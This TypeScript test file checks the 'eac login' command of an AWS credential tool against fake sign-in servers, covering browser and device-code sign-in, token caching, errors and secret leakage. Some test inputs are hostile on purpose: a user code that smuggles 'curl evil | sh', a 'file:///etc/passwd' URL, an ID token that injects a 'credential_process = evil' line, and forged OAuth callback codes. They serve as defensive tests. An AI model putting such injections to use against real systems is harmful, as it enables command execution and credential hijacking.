/**
 * `eac login`, and commands that offer it: through the whole program, against sign-in servers on loopback
 * that check what AWS checks.
 */

import { EacError } from "../../lib/errors.ts";
import type { Host } from "../../lib/host/host.ts";
import { run } from "../../lib/run.ts";
import { strategies } from "../../strategies/mod.ts";
import { assert, assertEquals, assertMatch, assertStringIncludes } from "../support/assert.ts";
import { ALICE } from "../support/aws_sign_in_server.ts";
import { click, type Consent } from "../support/consent_page.ts";
import { testHost, type TestHostOptions } from "../support/fakes.ts";
import { posixTest } from "../support/posix.ts";
import { CORP_SESSION, corpProfile, startSignInServices } from "../support/sign_in_services.ts";

const CONFIG = `# kept
${CORP_SESSION}
${corpProfile("prod", {}, "region = eu-west-1")}
${corpProfile("dev", { role: "dev" })}
[profile old]
sso_start_url = https://acme.awsapps.com/start
sso_region = eu-west-1
sso_account_id = 123456789012
sso_role_name = admin

[profile role]
role_arn = arn:aws:iam::123456789012:role/Open
source_profile = prod

[profile mine]
login_session = ${ALICE}
region = us-east-1
output = json

[profile empty]
region = us-east-1

[profile tool]
credential_process = tool
`;

const CREDENTIALS = `[keys]
aws_access_key_id = AKIAIOSFODNN7EXAMPLE
aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
`;

/** The AWS CLI's names: SHA-1 of the sso-session, and of the start URL without one. */
const CORP_TOKEN = ".aws/sso/cache/ee0bfd2552fbd840c02cc48b6e823320543c450f.json";
const OLD_TOKEN = ".aws/sso/cache/40169cea58ca6cbf23fb27b2542923fb5f524af0.json";

/** The names of the registrations, by botocore's `_registration_cache_key`. */
const CORP_CLIENT = ".aws/sso/cache/2c9b92f98f95741ef059c774e9100511dc495947.json";

/** A machine without a desktop, on every system. */
const ELSEWHERE = { DISPLAY: "", SSH_CONNECTION: "192.0.2.1 5000 192.0.2.2 22" };

interface Machine extends TestHostOptions {
  /** What the user does in the browser; absent: none opens. */
  readonly consent?: Consent | ((url: string) => Promise<void>);
}

/** A machine with a desktop, whose user answers in the browser, and the services. */
function machine({ consent, ...options }: Machine = {}) {
  const home = { ".aws/config": CONFIG, ".aws/credentials": CREDENTIALS };
  const host = testHost({ home, ...options, env: { DISPLAY: ":0", ...options.env } });
  const services = startSignInServices(() => host.time);
  const { oidc, aws } = services;
  Object.assign(host.env, { ...services.env, ...host.env });
  const browsing: Promise<void>[] = [];
  const opened: string[] = [];
  const pages: string[] = [];
  const at: Host = {
    ...host,
    now: () => host.time,
    inForeground: () => Promise.resolve(true),
    launch({ args }) {
      const first = args.at(-1)!;
      pages.push(first);
      // The page on loopback that eac opens leads to the URL.
      browsing.push((async () => {
        const page = await fetch(first, { redirect: "manual" });
        await page.body?.cancel();
        const url = page.headers.get("location")!;
        opened.push(url);
        if (typeof consent === "function") await consent(url);
        else if (consent !== undefined) await visit(await click(url, consent));
      })());
      return Promise.resolve();
    },
    async sleep(milliseconds, signal) {
      // Only the wait for a browser is that long.
      if (signal === undefined || milliseconds < 60_000) return void (host.time += milliseconds);
      if (consent === undefined) return;
      await new Promise((resolve) => signal.addEventListener("abort", resolve));
    },
  };
  return {
    host,
    oidc,
    aws,
    /** The URLs to which the browser was redirected. */
    opened,
    /** The URLs that the program that opens the browser got. */
    pages,
    async eac(...argv: string[]) {
      Object.assign(at, {
        openTerminal: host.openTerminal,
        http: host.http,
        serve: host.serve,
        createFile: host.createFile,
      });
      host.printed.stdout = host.printed.stderr = host.printed.terminal = "";
      const exit = await run(argv, at, strategies);
      await Promise.all(browsing.splice(0));
      return { exit, ...host.printed };
    },
    /** The files in a folder, as JSON. */
    files(folder: string): Record<string, unknown>[] {
      return host.list(host.path(folder)).filter((name) => name.endsWith(".json"))
        .map((name) => JSON.parse(host.text(`${folder}/${name}`)!));
    },
    async [Symbol.asyncDispose]() {
      await services[Symbol.asyncDispose]();
      host.dispose();
    },
  };
}

async function visit(url: string): Promise<void> {
  await (await fetch(url)).body?.cancel();
}

Deno.test("login signs in to IAM Identity Center in the browser, for every profile of the session", async () => {
  await using m = machine({ consent: "allow" });
  const { exit, stdout, stderr } = await m.eac("login", "prod");
  assertEquals([exit, stdout], [0, ""], stderr);
  assertStringIncludes(stderr, m.opened[0]!);
  assertStringIncludes(stderr, "prod: signed in to IAM Identity Center");
  for (const name of ["prod", "dev"]) {
    const { exit, stdout, stderr } = await m.eac("process", name);
    assertEquals([exit, stderr], [0, ""]);
    assertStringIncludes(JSON.parse(stdout).SessionToken, "session-by-access-token");
  }
  assertEquals(m.oidc.requests.map(({ path }) => path), ["/client/register", "/token"]);
  assertEquals(m.oidc.requests[0]!.body.clientName, "eac-client-corp");
});

Deno.test("login caches token and registration where the AWS CLI does, for this user alone", async () => {
  await using m = machine({ consent: "allow" });
  assertEquals((await m.eac("login", "prod")).exit, 0);
  const token = JSON.parse(m.host.text(CORP_TOKEN)!);
  const client = JSON.parse(m.host.text(CORP_CLIENT)!);
  assertEquals(token, {
    startUrl: "https://acme.awsapps.com/start",
    region: "eu-west-1",
    accessToken: token.accessToken,
    expiresAt: "2026-11-23T21:00:00Z",
    clientId: client.clientId,
    clientSecret: client.clientSecret,
    registrationExpiresAt: client.expiresAt,
    refreshToken: token.refreshToken,
  });
  assertEquals([client.scopes, client.grantTypes], [
    ["sso:account:access"],
    ["authorization_code", "refresh_token"],
  ]);
  if (m.host.os === "windows") return;
  for (const file of [CORP_TOKEN, CORP_CLIENT]) {
    assertEquals(m.host.stat(m.host.path(file))!.mode! & 0o777, 0o600);
  }
});

Deno.test("login signs in again each time, with the cached registration", async () => {
  await using m = machine({ consent: "allow" });
  for (const _ of [1, 2]) assertEquals((await m.eac("login", "prod")).exit, 0);
  assertEquals(m.oidc.requests.map(({ path }) => path), ["/client/register", "/token", "/token"]);
  // 89 days later the registration is still valid, but not for long enough.
  m.host.time += (90 * 24 - 0.2) * 3600_000;
  assertEquals((await m.eac("login", "prod")).exit, 0);
  assertEquals(m.oidc.requests.filter(({ path }) => path === "/client/register").length, 2);
});

Deno.test("login asks for the scopes of the sso-session", async () => {
  const config = CONFIG.replace(
    "sso_region = eu-west-1\n",
    "sso_region = eu-west-1\nsso_registration_scopes = sso:account:access , codewhisperer:completions\n",
  );
  await using m = machine({ consent: "allow", home: { ".aws/config": config } });
  assertEquals((await m.eac("login", "prod")).exit, 0);
  assertEquals(m.oidc.requests[0]!.body.scopes, [
    "sso:account:access",
    "codewhisperer:completions",
  ]);
  assertEquals(
    new URL(m.opened[0]!).searchParams.get("scopes"),
    "sso:account:access codewhisperer:completions",
  );
});

Deno.test("login shows a code for another device without a desktop, or with --no-browser", async (t) => {
  const table: [name: string, argv: string[], env: Record<string, string>][] = [
    ["--no-browser", ["prod", "--no-browser"], {}],
    ["the AWS CLI's option", ["prod", "--use-device-code"], {}],
    ["no desktop", ["prod"], ELSEWHERE],
  ];
  for (const [name, argv, env] of table) {
    await t.step(name, async () => {
      await using m = machine({ env });
      m.oidc.polls.push("authorization_pending", "slow_down", "authorization_pending");
      const began = m.host.time;
      const { exit, stdout, stderr } = await m.eac("login", ...argv);
      assertEquals([exit, stdout], [0, ""], stderr);
      assertStringIncludes(stderr, "ABCD-EFGH");
      assertStringIncludes(stderr, `${m.oidc.devicePage}?user_code=ABCD-EFGH`);
      assertEquals(m.opened, []);
      // One second between polls, and five more after slow_down.
      assertEquals(m.host.time - began, 1000 + 1000 + 6000 + 6000);
      assertEquals((await m.eac("process", "prod")).exit, 0);
      assert(JSON.parse(m.host.text(CORP_TOKEN)!).refreshToken);
    });
  }
});

Deno.test("login signs in a profile with its own sso_start_url with a code, in the browser", async () => {
  await using m = machine({ consent: () => Promise.resolve() });
  const { exit, stderr } = await m.eac("login", "old");
  assertEquals(exit, 0, stderr);
  assertEquals(m.opened, [`${m.oidc.devicePage}?user_code=ABCD-EFGH`]);
  assertMatch(stderr, /old: signed in to IAM Identity Center, until .* \(in 8 h\)/);
  assertEquals(JSON.parse(m.host.text(OLD_TOKEN)!).refreshToken, undefined);
  assertEquals((await m.eac("process", "old")).exit, 0);
});

for (
  const [name, folder] of [["mine", ".aws/login/cache"], ["empty", ".aws/login"], [
    "prod",
    ".aws/sso",
  ]]
) {
  Deno.test(`login of ${name} opens no browser if its token cannot be stored in ${folder}`, async () => {
    await using m = machine({ consent: "allow" });
    m.host.write(folder!, "a file");
    const { exit, stderr } = await m.eac("login", name!);
    assertEquals([exit, m.pages], [7, []], stderr);
    assertStringIncludes(stderr, folder!.split("/")[1]!);
  });
}

Deno.test("login names the folder that it cannot write, before the browser", async () => {
  await using m = machine({ consent: "allow" });
  m.host.createFile = (path) => {
    throw new EacError("io", `cannot create ${path}: permission denied`);
  };
  for (
    const [name, folder] of [["mine", "login"], ["prod", "sso"]] as const
  ) {
    const { exit, stderr } = await m.eac("login", name);
    assertEquals([exit, m.pages], [7, []], stderr);
    assertMatch(stderr, new RegExp(`files in .*${folder}.cache: permission denied`));
  }
});

posixTest(
  "no file modes",
  "login opens no browser if it cannot name the session in the config",
  async () => {
    await using m = machine({ consent: "allow" });
    const before = m.host.text(".aws/config");
    Deno.chmodSync(m.host.path(".aws/config"), 0o444);
    const { exit, stderr } = await m.eac("login", "empty");
    assertEquals(m.pages, [], stderr);
    assert(exit !== 0);
    assertMatch(stderr, /config: it is read-only/);
    // If the profile already names its session, nothing has to be written there.
    assertEquals((await m.eac("login", "mine")).exit, 0);
    assertEquals(m.host.text(".aws/config"), before);
    Deno.chmodSync(m.host.path(".aws/config"), 0o600);
  },
);

Deno.test("login of a new profile without a terminal says that creating it needs one", async () => {
  await using m = machine({ consent: "allow" });
  const { exit, stderr } = await m.eac("login", "prodd");
  assertEquals([exit, m.pages], [3, []], stderr);
  assertStringIncludes(stderr, 'there is no profile "prodd"');
  assertMatch(stderr, /did you mean prod\?.*eac login prodd.*terminal/);
});

/** An answer to RegisterClient and to StartDeviceAuthorization. */
const STARTED = {
  clientId: "c",
  clientSecret: "s",
  clientSecretExpiresAt: 4e9,
  deviceCode: "d",
  userCode: "ABCD-EFGH",
  verificationUri: "https://example.com",
};

Deno.test("login reports why the sign-in to IAM Identity Center failed, and caches nothing", async (t) => {
  const table: [
    name: string,
    change: (m: ReturnType<typeof machine>) => void,
    argv: string[],
    exit: number,
    says: string,
  ][] = [
    ["the code has expired", ({ oidc }) => oidc.codeLifetime = 0, ["prod"], 6, "10 minutes"],
    [
      "the device code has expired",
      ({ oidc }) => {
        oidc.polls.push(...Array(1000).fill("authorization_pending"));
      },
      ["prod", "--no-browser"],
      6,
      "10 minutes",
    ],
    [
      "a device code for 30 seconds has expired",
      ({ oidc }) => {
        oidc.codeLifetime = 30;
        oidc.polls.push(...Array(1000).fill("authorization_pending"));
      },
      ["prod", "--no-browser"],
      6,
      "within 30 seconds",
    ],
    [
      "AWS reports an expired device code of 30 seconds",
      ({ oidc }) => {
        oidc.codeLifetime = 30;
        oidc.polls.push("expired_token");
      },
      ["prod", "--no-browser"],
      6,
      "within 30 seconds",
    ],
    [
      "the user refuses on the other device",
      ({ oidc }) => {
        oidc.polls.push("access_denied");
      },
      ["prod", "--no-browser"],
      5,
      "refused",
    ],
    [
      "the service is down",
      ({ oidc }) => {
        oidc.failure = { status: 503, body: {} };
      },
      ["prod"],
      6,
      "IAM Identity Center",
    ],
    [
      "the start URL is unknown",
      ({ oidc }) => {
        oidc.failure = { status: 400, body: { error: "invalid_request" } };
      },
      ["prod"],
      5,
      "sso_start_url",
    ],
    [
      "an answer is incomplete",
      ({ oidc }) => {
        oidc.failure = { status: 200, body: {} };
      },
      ["prod"],
      6,
      "incomplete",
    ],
    ...[{ expiresIn: 1e300 }, { expiresIn: -5 }, { expiresIn: "900" }, { accessToken: "a\nb" }].map(
      (
        wrong,
      ): typeof table[number] => [
        `a token with ${JSON.stringify(wrong)}`,
        ({ oidc }) => {
          const token = { accessToken: "a", expiresIn: 900, ...wrong };
          oidc.failure = { status: 200, body: { ...STARTED, ...token } };
        },
        ["prod", "--no-browser"],
        6,
        "incomplete",
      ],
    ),
    ...[1e300, -1e300, 0, "soon"].map((clientSecretExpiresAt): typeof table[number] => [
      `a registration that expires at ${clientSecretExpiresAt}`,
      ({ oidc }) => {
        oidc.failure = { status: 200, body: { ...STARTED, clientSecretExpiresAt } };
      },
      ["prod"],
      6,
      "incomplete",
    ]),
    [
      "a redirect",
      ({ oidc }) => {
        oidc.failure = { status: 307, body: {} };
      },
      ["prod"],
      6,
      "HTTP 307",
    ],
    [
      "a URL that is not a web page",
      ({ oidc }) => {
        oidc.failure = { status: 200, body: { ...STARTED, verificationUri: "file:///etc/passwd" } };
      },
      ["prod", "--no-browser"],
      6,
      "incomplete",
    ],
    [
      "a code that is a text",
      ({ oidc }) => {
        oidc.failure = { status: 200, body: { ...STARTED, userCode: "1\n$ curl evil | sh" } };
      },
      ["prod", "--no-browser"],
      6,
      "incomplete",
    ],
  ];
  for (const [name, change, argv, exit, says] of table) {
    await t.step(name, async () => {
      await using m = machine({ consent: "allow" });
      change(m);
      const ended = await m.eac("login", ...argv);
      assertEquals(ended.exit, exit, ended.stderr);
      assertStringIncludes(ended.stderr, says);
      assertMatch(ended.stderr, /\nhint: .+\n$/);
      assertEquals(m.host.text(CORP_TOKEN), undefined);
    });
  }
});

Deno.test("login waits ten minutes for another device, whatever polling interval AWS requests", async () => {
  for (const interval of [1e12, 400, 0, -1, 1]) {
    await using m = machine();
    m.oidc.interval = interval;
    m.oidc.codeLifetime = 1e9;
    m.oidc.polls.push(...Array(1000).fill("authorization_pending"));
    const began = m.host.time;
    const { exit, stderr } = await m.eac("login", "prod", "--no-browser");
    assertEquals([exit, m.host.time - began], [6, 600_000], stderr);
  }
});

Deno.test("login registers again after IAM Identity Center has forgotten the client", async () => {
  await using m = machine({ consent: "allow" });
  assertEquals((await m.eac("login", "prod", "--no-browser")).exit, 0);
  const file = JSON.parse(m.host.text(CORP_CLIENT)!);
  m.host.write(CORP_CLIENT, JSON.stringify({ ...file, clientSecret: "forgotten" }));
  const refused = await m.eac("login", "prod", "--no-browser");
  assertEquals(refused.exit, 6, refused.stderr);
  assert(!refused.stderr.includes("forgotten"));
  assertEquals((await m.eac("login", "prod", "--no-browser")).exit, 0);
});

Deno.test("login ends when the user refuses in the browser", async () => {
  for (const name of ["prod", "empty"]) {
    await using m = machine({ consent: "deny" });
    const { exit, stderr } = await m.eac("login", name);
    assertEquals(exit, 5, stderr);
    assertStringIncludes(stderr, "access_denied");
    assertEquals(m.host.text(".aws/config"), CONFIG);
  }
});

Deno.test("login ignores every request that is not the response to its own", async () => {
  for (const name of ["prod", "empty"]) {
    let refused = 0;
    await using m = machine({
      async consent(url) {
        const { searchParams } = new URL(url);
        const callback = searchParams.get("redirect_uri")!;
        const state = searchParams.get("state")!;
        assertMatch(callback, /^http:\/\/127\.0\.0\.1:\d+\/oauth\/callback$/);
        const others: [string, RequestInit?][] = [
          [callback],
          [`${callback}?code=evil`],
          [`${callback}?code=evil&state=${crypto.randomUUID()}`],
          [`${callback}?code=evil&state=${state.slice(0, -1)}`],
          [`${callback}?error=access_denied`],
          [`${callback}?error=access_denied&state=`],
          [`${callback}?state=${state}`],
          [`${new URL("/", callback)}?code=evil&state=${state}`],
          [`${callback}?code=evil&state=${state}`, { method: "POST" }],
        ];
        for (const [other, init] of others) {
          const answer = await fetch(other, init);
          await answer.body?.cancel();
          if (answer.status === 400) refused++;
        }
        const location = await click(url, "allow");
        await visit(location);
        // Only one response counts; after it the server is stopped, or refuses.
        const again = await fetch(location).catch(() => undefined);
        await again?.body?.cancel();
        assert(again === undefined || again.status === 400);
      },
    });
    const { exit, stderr } = await m.eac("login", name);
    assertEquals([exit, refused], [0, 9], stderr);
    assertEquals((await m.eac("process", name)).exit, 0);
  }
});

Deno.test("login is not delayed by an idle connection", async () => {
  let idle: Deno.TcpConn | undefined;
  await using m = machine({
    async consent(url) {
      const port = Number(new URL(new URL(url).searchParams.get("redirect_uri")!).port);
      idle = await Deno.connect({ hostname: "127.0.0.1", port });
      await idle.write(new TextEncoder().encode("GET /oauth/callback?code=1 HTTP/1.1\r\n"));
      await visit(await click(url, "allow"));
    },
  });
  assertEquals((await m.eac("login", "prod")).exit, 0);
  idle?.close();
});

Deno.test("login signs in with the console's credentials, and names the session in the profile", async () => {
  await using m = machine({ consent: "allow" });
  const { exit, stdout, stderr } = await m.eac("login", "empty");
  assertEquals([exit, stdout], [0, ""], stderr);
  assertStringIncludes(stderr, `empty: signed in as ${ALICE}`);
  assertEquals(
    m.host.text(".aws/config"),
    CONFIG.replace(
      "[profile empty]\nregion = us-east-1\n",
      `[profile empty]\nregion = us-east-1\nlogin_session = ${ALICE}\n`,
    ),
  );
  assertEquals(m.aws.refusals, []);
  const [token] = m.files(".aws/login/cache");
  assertEquals(Object.keys(token!).sort(), [
    "accessToken",
    "clientId",
    "dpopKey",
    "idToken",
    "refreshToken",
    "tokenType",
  ]);
  const { accountId, expiresAt } = Object(token!.accessToken);
  assertEquals([accountId, expiresAt], ["123456789012", "2026-11-23T13:15:00Z"]);
  // The renewal uses the key of the sign-in.
  m.host.time += 20 * 60_000;
  assertEquals((await m.eac("process", "empty")).exit, 0);
  assertEquals(m.aws.requests.map(({ grantType }) => grantType), [
    "authorization_code",
    "refresh_token",
  ]);
  assertEquals(m.aws.refusals, []);
});

Deno.test("login accepts the code that another device shows, and asks again after a wrong one", async () => {
  const typed: string[] = ["nonsense\r", `${btoa("state=other&code=c")}\r`];
  for (const option of ["--remote", "--no-browser"]) {
    await using m = machine({ typed: [...typed, "", ""] });
    // The user opens the URL that the terminal shows.
    const device = m.host.openTerminal()!;
    const keys = typed.map((text) => new TextEncoder().encode(text));
    m.host.openTerminal = () => ({
      ...device,
      async read() {
        const next = keys.shift();
        if (next !== undefined) return next;
        const url = /http:\/\/\S+\/v1\/authorize\S+/.exec(m.host.printed.terminal)![0];
        const page = await fetch(await click(url, "allow"));
        return new TextEncoder().encode(`${await page.text()}\r`);
      },
    });
    const { exit, stderr, terminal } = await m.eac("login", "mine", option);
    assertEquals(exit, 0, stderr);
    assertStringIncludes(terminal, "not the whole code");
    assertStringIncludes(terminal, "another sign-in");
    assertEquals(m.aws.refusals, []);
    assertEquals(m.aws.requests[0]!.clientId, "arn:aws:signin:::devtools/cross-device");
    assertEquals(m.host.text(".aws/config"), CONFIG);
  }
});

Deno.test("login on another device needs a terminal for the code", async () => {
  await using m = machine({ env: ELSEWHERE });
  const { exit, stderr } = await m.eac("login", "mine");
  assertEquals(exit, 4, stderr);
  assertStringIncludes(stderr, "there is no terminal");
});

Deno.test("login shows no secret, and passes none to the program that opens the browser", async () => {
  for (const [name, argv] of [["prod", []], ["prod", ["--no-browser"]], ["empty", []]] as const) {
    for (const failing of [false, true]) {
      await using m = machine({ consent: "allow" });
      const echo = { error: "invalid_grant", error_description: "" };
      const printed: string[] = [];
      if (failing) {
        // A server that echoes the request.
        const http = m.host.http;
        m.host.http = async (request) => {
          if (!request.url.endsWith("/token")) return await http(request);
          const body = JSON.stringify({ ...echo, error_description: request.body });
          return { status: 400, headers: {}, body: new TextEncoder().encode(body) };
        };
      }
      const ended = await m.eac("login", name, "-v", ...argv);
      printed.push(ended.stdout, ended.stderr, ended.terminal, JSON.stringify(m.host.launched));
      const secrets: unknown[] = [...m.oidc.requests.map(({ body }) => body), ...m.aws.requests]
        .flatMap(({ clientSecret, code, codeVerifier, deviceCode }) =>
          [clientSecret, code, codeVerifier, deviceCode].filter((one) => typeof one === "string")
        );
      assert(failing ? ended.exit !== 0 : secrets.length > 0, ended.stderr);
      for (const file of [...m.files(".aws/sso/cache"), ...m.files(".aws/login/cache")]) {
        const { accessToken, refreshToken, clientSecret, dpopKey } = file;
        secrets.push(...[
          accessToken,
          refreshToken,
          clientSecret,
          dpopKey,
          Object(accessToken).sessionToken,
        ]);
      }
      for (const secret of secrets) {
        if (typeof secret !== "string") continue;
        for (const text of printed) assert(!text.includes(secret), `${secret} in ${text}`);
      }
      for (const page of m.pages) assert(!/state=|challenge=/.test(page), page);
    }
  }
});

Deno.test("login does not change the profile of another AWS user unless the user agrees", async (t) => {
  const bob = "arn:aws:iam::123456789012:user/bob";
  for (const [typed, exit] of [[undefined, 4], ["n\r", 130], ["\r", 130], ["y\r", 0]] as const) {
    await t.step(String(typed), async () => {
      await using m = machine({ consent: "allow", typed });
      m.aws.user = bob;
      const ended = await m.eac("login", "mine");
      assertEquals(ended.exit, exit, ended.stderr);
      const config = m.host.text(".aws/config")!;
      assertEquals(config, exit === 0 ? CONFIG.replace(ALICE, bob) : CONFIG);
      assertEquals(m.files(".aws/login/cache").length, exit === 0 ? 1 : 0);
    });
  }
});

Deno.test("login creates a profile after the user has confirmed its name and region", async () => {
  const typed = ["\r", "\r"];
  await using m = machine({ consent: "allow", typed });
  const { exit, stderr, terminal } = await m.eac("login", "brand-new");
  assertEquals(exit, 0, stderr);
  assertStringIncludes(terminal, 'no profile "brand-new"');
  assertStringIncludes(
    m.host.text(".aws/config")!,
    `[profile brand-new]\nlogin_session = ${ALICE}\nregion = us-east-1\n`,
  );
  await using first = machine({ consent: "allow", home: {} });
  const { exit: code } = await first.eac("login", "--region", "eu-west-1");
  assertEquals(code, 0);
  assertEquals(
    first.host.text(".aws/config"),
    `[default]\nlogin_session = ${ALICE}\nregion = eu-west-1\n`,
  );
});

Deno.test("login does not sign in for a profile whose name it could not write", async (t) => {
  const names = ["my prof", "#x", "größe", "a]b\n[default]", " x", "constructor", "role/a"];
  for (const name of names) {
    await t.step(name, async () => {
      await using m = machine({ consent: "allow", typed: ["y\r", "\r"] });
      const { exit, stderr } = await m.eac("login", name);
      assertEquals(exit, 3, stderr);
      assertEquals([m.aws.requests, m.host.text(".aws/config")], [[], CONFIG]);
      assertEquals(m.files(".aws/login/cache"), []);
    });
  }
});

Deno.test("login does not create a profile for a mistyped name", async (t) => {
  const table: [argv: string[], typed: string | undefined, says: string][] = [
    [["prdo"], "\r", "did you mean prod"],
    [["prdo"], undefined, 'no profile "prdo"'],
    [["arn:aws:iam::123456789012:role/x"], "\r", "no profile"],
  ];
  for (const [argv, typed, says] of table) {
    await t.step(`${argv} ${typed}`, async () => {
      await using m = machine({ consent: "allow", typed });
      const { exit, stderr } = await m.eac("login", ...argv);
      assertEquals(exit, 3, stderr);
      assertStringIncludes(stderr, says);
      assertEquals(m.host.text(".aws/config"), CONFIG);
    });
  }
});

Deno.test("login refuses a profile without a sign-in, and names what the profile uses", async (t) => {
  const table: [profile: string, says: string][] = [
    ["keys", "access keys"],
    ["tool", "credential_process"],
  ];
  for (const [profile, says] of table) {
    await t.step(profile, async () => {
      await using m = machine({ consent: "allow", typed: "\r" });
      const { exit, stderr } = await m.eac("login", profile);
      assertEquals(exit, 3, stderr);
      assertStringIncludes(stderr, says);
      assertStringIncludes(stderr, "eac login NAME");
      assertEquals(m.opened, []);
    });
  }
});

Deno.test("login warns of an endpoint that is plain HTTP beyond this machine", async () => {
  for (const name of ["prod", "empty"]) {
    await using m = machine({ consent: "allow" });
    const { stderr } = await m.eac("login", name);
    assert(!stderr.includes("plain HTTP"), stderr);
    const env = {
      AWS_ENDPOINT_URL_SSO_OIDC: "http://example.invalid",
      AWS_ENDPOINT_URL_SIGNIN: "http://example.invalid",
    };
    await using far = machine({ consent: "deny", env });
    far.host.http = () => Promise.reject(new EacError("network", "unreachable"));
    Object.assign(far.host, {
      serve: () => {
        throw new EacError("io", "no server");
      },
    });
    const warned = await far.eac("login", name);
    assertStringIncludes(warned.stderr, "http://example.invalid is plain HTTP");
  }
});

Deno.test("login of a role signs in its source, and of an sso-session the session", async () => {
  for (const name of ["role", "corp"]) {
    await using m = machine({ consent: "allow" });
    const { exit, stderr } = await m.eac("login", name);
    assertEquals(exit, 0, stderr);
    assert(m.host.text(CORP_TOKEN));
  }
});

Deno.test("login fails immediately if prompts are disabled", async () => {
  for (const [argv, env] of [[["--no-input"], {}], [[], { CI: "true" }]] as const) {
    await using m = machine({ consent: "allow", env: { ...env }, typed: "\r" });
    const { exit, stderr } = await m.eac("login", "prod", ...argv);
    assertEquals(exit, 4, stderr);
    assertEquals(m.opened, []);
  }
});

Deno.test("login reports why AWS Sign-In failed, and changes nothing", async (t) => {
  const issued = {
    accessToken: { accessKeyId: "ASIAIOSFODNN7EXAMPLE", secretAccessKey: "s", sessionToken: "t" },
    expiresIn: 900,
    refreshToken: "r",
  };
  const idToken = (sub: string) => `x.${btoa(JSON.stringify({ sub })).replace(/=+$/, "")}.x`;
  const table: [name: string, status: number, body: unknown, exit: number, says: string][] = [
    ["an expired code", 400, { error: "AUTHCODE_EXPIRED" }, 6, "10 minutes"],
    ["no permission", 403, { error: "INSUFFICIENT_PERMISSIONS" }, 5, "signin:CreateOAuth2Token"],
    ["another refusal", 400, { error: "INVALID_REQUEST", message: "m" }, 5, "m"],
    ["a failure", 500, {}, 6, "AWS Sign-In"],
    ["a refusal that names no error", 499, {}, 5, "AWS Sign-In"],
    ["too many requests", 429, {}, 6, "throttled"],
    ["no ID token", 200, issued, 6, "incomplete"],
    ["no user in it", 200, { ...issued, idToken: idToken("alice") }, 6, "incomplete"],
    ...[
      { expiresIn: 1e300 },
      { expiresIn: -1 },
      { expiresIn: 0 },
      { accessToken: { ...issued.accessToken, sessionToken: "a\nb" } },
    ].map((wrong): typeof table[number] => [
      `a token with ${JSON.stringify(wrong)}`,
      200,
      { ...issued, idToken: idToken(ALICE), ...wrong },
      6,
      "incomplete",
    ]),
    ["a redirect", 302, {}, 6, "HTTP 302"],
    [
      "a user of two lines",
      200,
      { ...issued, idToken: idToken(`${ALICE}\ncredential_process = evil`) },
      6,
      "incomplete",
    ],
  ];
  for (const [name, status, body, exit, says] of table) {
    await t.step(name, async () => {
      await using m = machine({ consent: "allow" });
      m.aws.failure = { status, body };
      const ended = await m.eac("login", "empty");
      assertEquals(ended.exit, exit, ended.stderr);
      assertStringIncludes(ended.stderr, says);
      assertEquals([m.host.text(".aws/config"), m.files(".aws/login/cache")], [CONFIG, []]);
    });
  }
});

Deno.test("commands offer to sign in, and continue", async (t) => {
  const table: [argv: string[], session: string][] = [
    [["env", "prod"], "IAM Identity Center"],
    [["get", "prod", "--print"], "IAM Identity Center"],
    [["env", "mine"], "AWS"],
    [["roles", "prod"], "IAM Identity Center"],
    [["roles", "corp"], "IAM Identity Center"],
  ];
  for (const [argv, session] of table) {
    await t.step(argv.join(" "), async () => {
      await using m = machine({ consent: "allow", typed: "\r" });
      const { exit, stdout, stderr, terminal } = await m.eac(...argv);
      assertEquals(exit, 0, stderr);
      assertStringIncludes(terminal, `not signed in to ${session}. Sign in now? (Y/n)`);
      assertStringIncludes(stdout, argv[0] === "roles" ? "admin" : "AWS_SESSION_TOKEN");
    });
  }
});

Deno.test("commands ask once about a session that several profiles share", async () => {
  const config = CONFIG
    .replace("[profile prod]\n", "[profile prod]\ndestination_profile = prod-temp\n")
    .replace("[profile dev]\n", "[profile dev]\ndestination_profile = dev-temp\n");
  for (const [typed, exit] of [["\r", 0], ["n\r", 4]] as const) {
    await using m = machine({
      consent: "allow",
      typed,
      home: { ".aws/config": config, ".aws/credentials": CREDENTIALS },
    });
    const ended = await m.eac("get", "--all");
    assertEquals(ended.exit, exit, ended.stderr);
    assertEquals(ended.terminal.split("Sign in now?").length, 2);
  }
});

Deno.test("doctor notes which profiles need a sign-in", async () => {
  await using m = machine({ consent: "allow" });
  const noted = async () => {
    const { stdout } = await m.eac("doctor", "--json");
    const findings: Record<string, string>[] = JSON.parse(stdout);
    return findings.filter(({ code }) => code === "input_required")
      .map(({ level, profile, fix }) => `${level} ${profile}: ${fix}`).sort();
  };
  m.oidc.refreshes = false;
  const note = (name: string) => `note ${name}: run eac login ${name}`;
  assertEquals(await noted(), [note("dev"), note("mine"), note("old"), note("prod")]);
  for (const name of ["prod", "mine"]) assertEquals((await m.eac("login", name)).exit, 0);
  assertEquals(await noted(), [note("old")]);
  m.host.time += 9 * 3600_000;
  // The token of IAM Identity Center has expired; the other session is renewed when it is used.
  assertEquals(await noted(), [note("dev"), note("old"), note("prod")]);
});

Deno.test("commands name the command to type if the user cannot sign in now", async (t) => {
  const table: [argv: string[], options: Machine, next: string][] = [
    [["env", "prod"], {}, "eac login prod"],
    [["env", "role"], { typed: "\r", env: { CI: "1" } }, "eac login prod"],
    [["env", "mine", "--no-input"], { typed: "\r" }, "eac login mine"],
    [["env", "mine", "-q"], { typed: "\r" }, "eac login mine"],
    [["process", "prod"], { typed: "\r" }, "eac login prod"],
    [["env", "prod"], { typed: "n\r" }, "eac login prod"],
  ];
  for (const [argv, options, next] of table) {
    await t.step(`${argv.join(" ")} ${JSON.stringify(options)}`, async () => {
      await using m = machine({ consent: "allow", ...options });
      const { exit, stdout, stderr } = await m.eac(...argv);
      assertEquals([exit, stdout.trim()], [4, ""], stderr);
      assertStringIncludes(stderr, `hint: run ${next}\n`);
      assertEquals(m.opened, []);
    });
  }
});
